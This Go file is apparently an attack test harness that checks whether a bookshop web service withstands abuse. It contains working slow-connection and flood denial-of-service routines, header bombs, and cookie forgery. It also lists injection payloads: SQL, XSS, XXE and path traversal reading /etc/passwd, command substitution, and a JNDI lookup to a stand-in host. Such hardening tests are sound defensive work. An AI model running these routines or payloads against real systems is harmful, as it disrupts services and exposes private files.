package attack

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"
)

const (
	formHead = "POST /interactions HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\n"
	trickle  = 500 * time.Millisecond // between two bytes of a slow sender
)

// trickleInto sends text, and then a byte at a time until the other side has had enough.
func trickleInto(ctx context.Context, c net.Conn, text string) {
	if _, err := io.WriteString(c, text); err != nil {
		return
	}
	ticker := time.NewTicker(trickle)
	defer ticker.Stop()
	for {
		select {
		case <-ticker.C:
		case <-ctx.Done():
			return
		}
		if _, err := io.WriteString(c, "a"); err != nil {
			return
		}
	}
}

func slowHeaders(ctx context.Context, r *raid) error {
	r.crowd(ctx, r.n(4000), r.shop, func(ctx context.Context, c net.Conn) {
		trickleInto(ctx, c, "GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ")
	})
	return nil
}

func slowBodies(ctx context.Context, r *raid) error {
	body := strings.Repeat("a", 7900)
	r.crowd(ctx, r.n(4000), r.shop, func(ctx context.Context, c net.Conn) {
		trickleInto(ctx, c, formHead+"Content-Length: 8000\r\n\r\n"+body)
	})
	return nil
}

// emptyBodies announces bodies of which nothing comes.
func emptyBodies(ctx context.Context, r *raid) error {
	r.crowd(ctx, r.n(4000), r.shop, func(_ context.Context, c net.Conn) {
		if _, err := io.WriteString(c, formHead+"Content-Length: 8000\r\n\r\n"); err == nil {
			drain(c)
		}
	})
	return nil
}

// endlessBodies sends as much as the shop takes.
func endlessBodies(ctx context.Context, r *raid) error {
	chunk := "8000\r\n" + strings.Repeat("a", 0x8000) + "\r\n"
	heads := []string{
		formHead + "Transfer-Encoding: chunked\r\n\r\n",
		formHead + "Content-Length: 1000000000000\r\n\r\n",
		"POST /books HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n\r\n",
	}
	var turn sync.Mutex
	next := 0
	r.crowd(ctx, r.n(400), r.shop, func(_ context.Context, c net.Conn) {
		turn.Lock()
		text := heads[next%len(heads)]
		next++
		turn.Unlock()
		go drain(c)
		for sent := 0; sent < 64<<20; sent += len(chunk) {
			if _, err := io.WriteString(c, text); err != nil {
				return
			}
			text = chunk
			r.count("kB taken", len(chunk)>>10)
		}
		r.fail("a body of 64 MB was taken")
	})
	return nil
}

// slowReaders ask for the same thing often, and read nothing.
func slowReaders(connections int, path string, often int) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		requests := strings.Repeat("GET "+path+" HTTP/1.1\r\nHost: shop\r\n\r\n", often)
		r.crowd(ctx, r.n(connections), r.shop, func(ctx context.Context, c net.Conn) {
			_ = c.(*net.TCPConn).SetReadBuffer(1 << 10)
			if _, err := io.WriteString(c, requests); err == nil {
				<-ctx.Done()
			}
		})
		return nil
	}
}

func idle(at func(*raid) string, hello string) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		r.crowd(ctx, r.n(10_000), at(r), func(_ context.Context, c net.Conn) {
			if _, err := io.WriteString(c, hello); err == nil {
				drain(c)
			}
		})
		return nil
	}
}

// churn opens connections and cuts them at once.
func churn(at func(*raid) string) func(context.Context, *raid) error {
	return func(ctx context.Context, r *raid) error {
		r.crowd(ctx, r.n(20_000), at(r), func(_ context.Context, c net.Conn) { _ = c.(*net.TCPConn).SetLinger(0) })
		return nil
	}
}

// answered is what came back for raw bytes.
type answered struct {
	status int // 0 if the connection was closed without an answer
	header http.Header
	body   []byte
}

// say sends raw bytes on a connection of their own and reads the first answer. An error
// means that neither an answer nor the end of the connection came in time.
func (r *raid) say(ctx context.Context, text string) (a answered, err error) {
	c, err := r.dial(ctx, r.shop)
	if err != nil { // the reader beside notices it too, if it is not for want of time here
		r.count("connections "+brief(err), 1)
		return a, nil
	}
	defer c.Close()
	const patience = 8 * time.Second // a header may take 5 s
	_ = c.SetDeadline(time.Now().Add(patience))
	written := make(chan struct{})
	go func() {
		_, _ = io.WriteString(c, text) // the shop may have read enough
		_ = c.CloseWrite()
		close(written)
	}()
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err == nil {
		a.status, a.header = resp.StatusCode, resp.Header
		a.body, _ = io.ReadAll(io.LimitReader(resp.Body, 4<<20)) // it may be cut
		_ = resp.Body.Close()
	} else if errors.Is(err, context.DeadlineExceeded) || brief(err) == "timed out" {
		return a, fmt.Errorf("no answer to %.60q after %v", text, patience)
	}
	_ = c.Close()
	<-written
	return a, nil
}

// malformed are requests that HTTP/1 forbids or that hardly a browser sends, with what the
// shop may answer, if it does not just close the connection.
func malformed() map[string][]int {
	get := func(more string) string { return "GET / HTTP/1.1\r\nHost: shop\r\n" + more + "\r\n" }
	post := func(more, body string) string { return formHead + more + "\r\n" + body }
	return map[string][]int{
		"\r\n\r\n\r\n":                                                      {400},
		"\x00\x01\x02\x03\r\n\r\n":                                          {400},
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc":                              {400}, // a TLS handshake
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n":                                  {400, 404, 405, 505},
		"GET / HTTP/9.9\r\nHost: shop\r\n\r\n":                              {400, 505},
		"GET / HTTP/1.1\r\n\r\n":                                            {400},
		"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n":                      {400},
		"GET /\x00 HTTP/1.1\r\nHost: shop\r\n\r\n":                          {400},
		"GET / HTTP/1.1\nHost: shop\n\n":                                    {200, 400},
		"GET  / HTTP/1.1\r\nHost: shop\r\n\r\n":                             {400},
		"G\xc3\xa4T / HTTP/1.1\r\nHost: shop\r\n\r\n":                       {400},
		"BREW / HTTP/1.1\r\nHost: shop\r\n\r\n":                             {405, 501},
		"TRACE / HTTP/1.1\r\nHost: shop\r\n\r\n":                            {405},
		"CONNECT db:5432 HTTP/1.1\r\nHost: shop\r\n\r\n":                    {400, 404, 405},
		"OPTIONS * HTTP/1.1\r\nHost: shop\r\n\r\n":                          {200, 404, 405},
		"GET http://elsewhere.test/ HTTP/1.1\r\nHost: shop\r\n\r\n":         {200, 400, 421},
		"GET / HTTP/1.1\r\nHost: shop\r\n folded: yes\r\n\r\n":              {400},
		get("Bad Name: x\r\n"):                                              {400},
		get("X: a\x00b\r\n"):                                                {400},
		get("X: a\rY: b\r\n"):                                               {400},
		get("Content-Length: -1\r\n"):                                       {400},
		get("Transfer-Encoding: identity, chunked\r\n"):                     {400, 501},
		get("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n"): {400, 501},
		get("Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"): {200},
		get("Upgrade: websocket\r\nConnection: Upgrade\r\n"):                                               {200},
		get("Range: bytes=" + strings.Repeat("0-1,", 500) + "0-1\r\n"):                                     {200},
		get("Expect: the impossible\r\n"):                                                                  {200, 417},
		post("Content-Length: 5\r\nContent-Length: 6\r\n", "abcdef"):                                       {400},
		post("Content-Length: 5,5\r\n", "abcde"):                                                           {400},
		post("Content-Length: +5\r\n", "abcde"):                                                            {400},
		post("Content-Length: 99999999999999999999\r\n", "abcde"):                                          {400},
		post("Transfer-Encoding: chunked\r\n", "fffffffffffffffff\r\n"):                                    {400, 413},
		post("Transfer-Encoding: chunked\r\n", "-1\r\n"):                                                   {400, 413},
		post("Transfer-Encoding: chunked\r\n", "1;"+strings.Repeat("x", 20_000)+"\r\na\r\n0\r\n\r\n"):      {400, 413},
		post("Content-Length: 100\r\n", "book=1"):                                                          {400, 403}, // ends early
	}
}

func garbage(ctx context.Context, r *raid) error {
	for text, allowed := range malformed() {
		a, err := r.say(ctx, text)
		if err != nil {
			r.fail("%v", err)
			continue
		}
		r.count("malformed requests", 1)
		if a.status != 0 && !slices.Contains(allowed, a.status) {
			r.fail("%.60q was answered with %d, want one of %v", text, a.status, allowed)
		}
	}
	random := rand.New(rand.NewPCG(1, 1))
	for range r.n(2000) {
		text := make([]byte, 1+random.IntN(2000))
		for i := range text {
			text[i] = byte(random.Uint32())
		}
		if random.IntN(2) == 0 { // a good beginning
			text = append([]byte(formHead), text...)
		}
		a, err := r.say(ctx, string(text))
		switch {
		case ctx.Err() != nil:
			return nil //nolint:nilerr // the attack is over
		case err != nil:
			r.fail("%v", err)
		case a.status >= 500 && a.status != 501 && a.status != 505:
			r.fail("%.60q was answered with %d", text, a.status)
		}
		r.count("random requests", 1)
	}
	return nil
}

func headerBombs(ctx context.Context, r *raid) error {
	many := func(n, size int, name string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, name+": %s\r\n", i, strings.Repeat("x", size))
		}
		return b.String()
	}
	bombs := map[string]string{
		"one of 1 MB":       "X: " + strings.Repeat("x", 1<<20) + "\r\n",
		"100,000 of 8 B":    many(100_000, 1, "X-%d"),
		"20 of 4 kB":        many(20, 4<<10, "X-%d"),
		"5,000 cookies":     strings.Repeat("Cookie: visitor=x\r\n", 5000),
		"a cookie of 64 kB": "Cookie: visitor=" + strings.Repeat("x", 64<<10) + "\r\n",
	}
	var sending sync.WaitGroup
	for range r.n(3) {
		for what, headers := range bombs {
			sending.Go(func() {
				for range r.n(16) {
					a, err := r.say(ctx, "GET / HTTP/1.1\r\nHost: shop\r\n"+headers+"\r\n")
					if ctx.Err() != nil {
						return
					}
					if err == nil && a.status != http.StatusRequestHeaderFieldsTooLarge && a.status != 0 { // the answer may be lost to a reset
						err = fmt.Errorf("headers, %s: status %d", what, a.status)
					}
					if err != nil {
						r.fail("%v", err)
					}
					r.count("requests with large headers", 1)
				}
			})
		}
	}
	sending.Wait()
	return nil
}

// gzipped returns n zeros, compressed.
func gzipped(n int) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(make([]byte, n)) // a bytes.Buffer takes all
	_ = w.Close()
	return b.String()
}

// request is one of a browser or program that is well-formed but means no good.
type request struct {
	method, path, body string
	header             http.Header
}

// client returns an HTTP client at the attacker's address. It keeps cookies and follows no
// redirects, except that it sends a form again when the shop asks for that.
func (r *raid) client() *http.Client {
	jar, _ := cookiejar.New(nil) // never fails without options
	return &http.Client{
		Jar: jar, Timeout: 10 * time.Second,
		Transport: &http.Transport{
			DialContext:         func(ctx context.Context, _, address string) (net.Conn, error) { return r.dial(ctx, address) },
			MaxIdleConnsPerHost: 16, DisableCompression: true,
		},
		CheckRedirect: func(next *http.Request, _ []*http.Request) error {
			if next.Method == http.MethodPost {
				return nil
			}
			return http.ErrUseLastResponse
		},
	}
}

// ask makes a request.
func (r *raid) ask(ctx context.Context, client *http.Client, q request) (a answered, err error) {
	if q.method == "" {
		q.method = http.MethodGet
	}
	req, err := http.NewRequestWithContext(ctx, q.method, "http://"+r.shop+q.path, strings.NewReader(q.body))
	if err != nil {
		return a, err
	}
	for name, values := range q.header {
		req.Header[name] = values
	}
	if host := req.Header.Get("Host"); host != "" {
		req.Host = host
	}
	resp, err := client.Do(req)
	if err != nil {
		return a, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return answered{resp.StatusCode, resp.Header, body}, err
}

// askAll makes the requests again and again, up to times times or until the attack is over,
// and has each answer checked.
func (r *raid) askAll(ctx context.Context, times int, list []request, check func(request, answered) error) {
	client := r.client()
	defer client.CloseIdleConnections()
	for range times {
		for _, q := range list {
			a, err := r.ask(ctx, client, q)
			if ctx.Err() != nil {
				return
			}
			r.count("requests", 1)
			if err == nil {
				err = check(q, a)
			}
			if err != nil {
				r.fail("%s %.80q: %v", q.method, q.path, err)
			}
		}
	}
}

// refused is for requests that must not succeed.
func refused(_ request, a answered) error {
	if a.status < 400 || a.status >= 500 {
		return fmt.Errorf("status %d, want 4xx", a.status)
	}
	return nil
}

// bodies are JSON bodies and forms that no reader sends.
func bodies(ctx context.Context, r *raid) error {
	var list []request
	post := func(path, kind, body string, more ...string) {
		h := http.Header{"Content-Type": {kind}}
		for i := 0; i < len(more); i += 2 {
			h.Set(more[i], more[i+1])
		}
		list = append(list, request{http.MethodPost, path, body, h})
	}
	const api, form = "/api/v1/interactions", "/interactions"
	for _, body := range []string{
		strings.Repeat("[", 8000), strings.Repeat(`{"a":`, 1600), `{"id":` + strings.Repeat("[", 4000) + strings.Repeat("]", 3900),
		`{"user_id":1,"user_id":2,"book_id":1,"kind":"like"}`, `{"user_id":1,"book_id":1,"kind":"like","admin":true}`,
		`{"user_id":1e400,"book_id":1,"kind":"like"}`, `{"user_id":-0,"book_id":1,"kind":"like"}`, `{"user_id":1,"book_id":1.5,"kind":"like"}`,
		`{"user_id":"1' OR '1'='1","book_id":1,"kind":"like"}`, "{\"user_id\":1,\"book_id\":1,\"kind\":\"li\xff\xfeke\"}",
		"\xef\xbb\xbf{}", "{}{}", "null", `{"user_id":` + strings.Repeat("9", 7000) + `,"book_id":1,"kind":"like"}`, "",
		`{"user_id":1,"book_id":1,"kind":"like","id":"` + strings.Repeat(`\ud800`, 1200) + `"}`,
	} {
		post(api, "application/json", body)
	}
	post(api, "application/json", gzipped(8 << 20)[:8000], "Content-Encoding", "gzip")
	post(api, "application/xml", `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`)
	post(api, "text/plain", `{"user_id":1,"book_id":1,"kind":"like"}`)
	post(form, "application/x-www-form-urlencoded", gzipped(8 << 20)[:8000], "Content-Encoding", "gzip")
	post(form, "application/x-www-form-urlencoded", strings.Repeat("a&", 4000))
	post(form, "application/x-www-form-urlencoded", strings.Repeat("book=1&", 1000)+"do=nothing")
	post(form, "application/x-www-form-urlencoded", "book=%ff%fe&do=%00&%zz=1;x=2")
	post(form, "multipart/form-data; boundary=x", strings.Repeat("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n", 100)+"--x--")
	post(form, "multipart/form-data", "--x--")
	r.askAll(ctx, r.n(60), list, refused)
	return nil
}

// forwarded are headers that a proxy sets, forged.
func forwarded(ctx context.Context, r *raid) error {
	random := rand.New(rand.NewPCG(1, 1))
	var list []request
	for range 50 {
		ip := fmt.Sprintf("%d.%d.%d.%d", 1+random.IntN(223), random.IntN(256), random.IntN(256), random.IntN(256))
		list = append(list,
			request{header: http.Header{"X-Forwarded-For": {ip}, "X-Real-Ip": {ip}, "Forwarded": {"for=" + ip}}},
			request{path: "/books", header: http.Header{"X-Forwarded-Host": {"elsewhere.test"}, "X-Forwarded-Proto": {"gopher"}}},
			request{path: "/api", header: http.Header{"X-Forwarded-For": {strings.Repeat(ip+", ", 200)}}},
			request{path: "//elsewhere.test/..", header: http.Header{"X-Original-Url": {"/api/v1/readers/1"}, "X-Rewrite-Url": {"/api"}, "X-Http-Method-Override": {"DELETE"}}},
		)
	}
	for i := range list {
		if list[i].path == "" {
			list[i].path = "/"
		}
	}
	r.askAll(ctx, r.n(10), list, func(_ request, a answered) error {
		if a.status >= 500 || bytes.Contains(a.body, []byte("elsewhere.test/")) || strings.Contains(fmt.Sprint(a.header), "elsewhere") && a.status < 300 {
			return fmt.Errorf("status %d; the forged host is in the answer", a.status)
		}
		return local(a)
	})
	return nil
}

// local refuses a redirect to another host.
func local(a answered) error {
	to := a.header.Get("Location")
	u, err := url.Parse(to)
	if err != nil || u.Host != "" || strings.HasPrefix(to, "//") || strings.Contains(to, `\`) {
		return fmt.Errorf("a redirect to %q", to)
	}
	return nil
}

// injections puts what other languages would execute where the shop takes text.
func injections(ctx context.Context, r *raid) error {
	var list []request
	for _, text := range []string{
		"' OR '1'='1", "1; DROP TABLE books; --", "1 UNION SELECT * FROM interactions", "x'||pg_sleep(10)||'", "%' ESCAPE '!",
		"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "{{7*7}}", "${7*7}", "${jndi:ldap://elsewhere.test/a}",
		"x\r\nSet-Cookie: injected=1", "x\r\n\r\nHTTP/1.1 200 OK", "x\n{\"level\":\"error\",\"msg\":\"injected\"}", "\u202egnp.exe", "\x1b[31mred", "a\x00b",
		"\xff\xfe", "=cmd|' /C calc'!A0", strings.Repeat("%", 200), "../../../etc/passwd", "`id`", "$(id)", "*)(uid=*",
	} {
		in := url.QueryEscape(text)
		at := url.PathEscape(text)
		for _, path := range []string{
			"/search?q=" + in, "/books?page=" + in, "/books/" + at, "/books/" + at + "/cover.svg", "/categories/" + at, "/books/1?" + in + "=" + in,
			"/api/v1/books/" + at, "/api/v1/recommendations?user_id=" + in, "/api/v1/recommendations?user_id=1&category=" + in,
			"/api/v1/readers/" + at + "/history", "/static/" + at, "/" + at,
		} {
			list = append(list, request{path: path})
		}
		list = append(list,
			request{http.MethodPost, "/interactions", "book=" + in + "&do=" + in + "&id=" + in + "&return=" + in, form()},
			request{http.MethodPost, "/reader", "reader=" + in + "&return=" + in, form()},
			request{http.MethodPost, "/interactions", "book=1&do=like&return=//elsewhere.test/" + in, form()},
			request{http.MethodDelete, "/api/v1/readers/" + at, "", nil},
			request{method: http.MethodHead, path: "/shelf/events?after=" + in},
		)
		if clean := strings.Map(printableASCII, text); clean == text {
			list = append(list, request{path: "/", header: http.Header{"User-Agent": {text}, "Referer": {text}, "X-Request-Id": {text}, "Cookie": {"visitor=" + text}, "Traceparent": {text}}})
		}
	}
	r.askAll(ctx, r.n(4), list, func(_ request, a answered) error {
		switch {
		case a.status >= 500:
			return fmt.Errorf("status %d", a.status)
		case bytes.Contains(a.body, []byte("<script>alert")) || bytes.Contains(a.body, []byte("<img src=x")):
			return errors.New("the answer has the script")
		case strings.Contains(fmt.Sprint(a.header), "injected"):
			return errors.New("the answer has the header")
		case bytes.Contains(a.body, []byte("root:x:")):
			return errors.New("the answer has a file of the system")
		}
		return local(a)
	})
	return nil
}

func form() http.Header { return http.Header{"Content-Type": {"application/x-www-form-urlencoded"}} }

func printableASCII(r rune) rune {
	if r < ' ' || r > '~' {
		return -1
	}
	return r
}

// paths are tricks with paths, sent as they are.
func paths(ctx context.Context, r *raid) error {
	list := []string{
		"/static/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", `/static/..\..\etc\passwd`, "/static//etc/passwd",
		"/static/%00", "/static/", "/static/.", "//elsewhere.test/", "//elsewhere.test/%2f..", "/%5celsewhere.test", "/books//1", "/books/./1", "/books/../books/1/", "/;/books", "/books/1;a=b",
		"/books/%31", "/books/+1", "/books/0x1", "/books/-1", "/books/9223372036854775808", "/books/" + strings.Repeat("9", 2000), "/books/1/cover.svg/..", "/api/../api/v1/books", "/api//v1/books",
		"/API/v1/books", "/api/v1/books/", "/debug/pprof/", "/metrics", "/livez", "/debug/fault", "/.git/config", "/.env", "/" + strings.Repeat("a/", 900), "/" + strings.Repeat("a", 15_000),
		"/?" + strings.Repeat("a=1&", 3000), "/search?q=" + strings.Repeat("%20", 600), "/books?page=99999999999", "/books?page=-1", "/books?page=1&page=2", "/%", "/%zz", "/\xff\xfe", "/%ff%fe", "*", "/#", "/?#",
	}
	for range r.n(20) {
		for _, path := range list {
			a, err := r.say(ctx, "GET "+path+" HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n")
			if ctx.Err() != nil {
				return nil //nolint:nilerr // the attack is over
			}
			r.count("requests", 1)
			switch {
			case err != nil:
			case a.status >= 500:
				err = fmt.Errorf("status %d", a.status)
			case bytes.Contains(a.body, []byte("root:x:")) || bytes.Contains(a.body, []byte("goroutine")) || bytes.Contains(a.body, []byte("go_goroutines")):
				err = errors.New("the answer has what is not for readers")
			default:
				err = local(a)
			}
			if err != nil {
				r.fail("%.80q: %v", path, err)
			}
		}
	}
	return nil
}

// costly are well-formed requests that ask for much.
func costly(ctx context.Context, r *raid) error {
	list := []request{{path: "/search?q=" + strings.Repeat("e+", 90)}, {path: "/search?q=" + strings.Repeat("a", 190)}, {path: "/api/v1/books?page=1000000"}, {path: "/books?page=1000000"}}
	for _, c := range "eaot" {
		list = append(list, request{path: "/search?q=" + string(c)})
	}
	r.askAll(ctx, r.n(40), list, func(_ request, a answered) error {
		if a.status >= 500 {
			return fmt.Errorf("status %d", a.status)
		}
		return nil
	})
	return nil
}

// become makes the client a reader of the shop who likes a book. A shop that is busy is
// asked again.
func (r *raid) become(ctx context.Context, client *http.Client) error {
	for _, q := range []request{{path: "/"}, {http.MethodPost, "/interactions", "book=1&do=like&return=/", form()}} {
		a, err := r.ask(ctx, client, q)
		for err == nil && a.status == http.StatusServiceUnavailable {
			sleep(ctx, 100*time.Millisecond)
			a, err = r.ask(ctx, client, q)
		}
		if err != nil {
			return err
		} else if a.status >= 400 {
			return fmt.Errorf("a first visit: %s has status %d", q.path, a.status)
		}
	}
	return nil
}

// liked marks the page of the own books of whoever likes one.
const liked = `value="unlike"`

// cookies forges, changes and doubles the cookie of a reader.
func cookies(ctx context.Context, r *raid) error {
	client := r.client()
	defer client.CloseIdleConnections()
	if err := r.become(ctx, client); err != nil {
		return err
	}
	home, err := url.Parse("http://" + r.shop + "/your-books")
	if err != nil {
		return err
	}
	var own []*http.Cookie
	for _, c := range client.Jar.Cookies(home) {
		if strings.HasSuffix(c.Name, "visitor") || c.Name == "reader" {
			own = append(own, c)
		}
	}
	if len(own) == 0 {
		return errors.New("a reader has no cookie")
	}
	shows := func(header string) (bool, error) {
		client.Jar, _ = cookiejar.New(nil)
		a, err := r.ask(ctx, client, request{path: "/your-books", header: http.Header{"Cookie": {header}}})
		if err == nil && a.status >= 500 {
			err = fmt.Errorf("status %d", a.status)
		}
		return bytes.Contains(a.body, []byte(liked)), err
	}
	join := func(change func(value string) []string) string {
		var parts []string
		for _, c := range own {
			for _, v := range change(c.Value) {
				parts = append(parts, c.Name+"="+v)
			}
		}
		return strings.Join(parts, "; ")
	}
	if ok, err := shows(join(func(v string) []string { return []string{v} })); err != nil || !ok {
		return errors.Join(fmt.Errorf("the reader's own cookie: the book is shown: %t", ok), err)
	}
	random := rand.New(rand.NewPCG(1, 1))
	changes := map[string]func(string) []string{
		"a changed character": func(v string) []string {
			at := random.IntN(len(v))
			return []string{v[:at] + string("ABCxyz0189"[random.IntN(10)]) + "-" + v[at+1:]}
		},
		"a cut cookie":     func(v string) []string { return []string{v[:random.IntN(len(v))]} },
		"a doubled cookie": func(v string) []string { return []string{v, v} },
		"two cookies":      func(v string) []string { return []string{"x", v} },
		"a long cookie":    func(v string) []string { return []string{v + strings.Repeat("A", 4000)} },
		"no cookie":        func(string) []string { return []string{""} },
	}
	for range r.n(100) {
		for name, change := range changes {
			ok, err := shows(join(change))
			if ctx.Err() != nil {
				return nil
			}
			r.count("forged cookies", 1)
			if err != nil || ok {
				r.fail("%s: the reader's book is shown: %t, %v", name, ok, err)
			}
		}
	}
	return nil
}

// writes makes as many writes with one cookie as the shop takes.
func writes(ctx context.Context, r *raid) error {
	client := r.client()
	defer client.CloseIdleConnections()
	if err := r.become(ctx, client); err != nil {
		return err
	}
	left := make(chan struct{}, r.n(3000))
	for range cap(left) {
		left <- struct{}{}
	}
	close(left)
	var writing sync.WaitGroup
	for range 16 {
		writing.Go(func() {
			for range left {
				a, err := r.ask(ctx, client, request{http.MethodPost, "/interactions", "book=2&do=like&return=/", form()})
				switch {
				case ctx.Err() != nil:
					return
				case err != nil:
					r.fail("a write: %v", err)
				case a.status == http.StatusSeeOther:
					r.count("writes taken", 1)
				case a.status == http.StatusTooManyRequests:
					r.count("writes refused", 1)
				default:
					r.fail("a write has status %d", a.status)
				}
			}
		})
	}
	writing.Wait()
	return nil
}

// shelves opens live shelves with one cookie.
func shelves(ctx context.Context, r *raid) error {
	client := r.client()
	defer client.CloseIdleConnections()
	if err := r.become(ctx, client); err != nil {
		return err
	}
	home, err := url.Parse("http://" + r.shop)
	if err != nil {
		return err
	}
	var cookie []string
	for _, c := range client.Jar.Cookies(home) {
		cookie = append(cookie, c.Name+"="+c.Value)
	}
	r.crowd(ctx, r.n(1000), r.shop, func(_ context.Context, c net.Conn) {
		if _, err := io.WriteString(c, "GET /shelf/events HTTP/1.1\r\nHost: shop\r\nCookie: "+strings.Join(cookie, "; ")+"\r\n\r\n"); err != nil {
			return
		}
		in := bufio.NewReader(c)
		resp, err := http.ReadResponse(in, nil)
		if err != nil {
			return
		}
		defer resp.Body.Close()
		r.count(fmt.Sprintf("live shelves with status %d", resp.StatusCode), 1)
		drain(resp.Body)
	})
	return nil
}
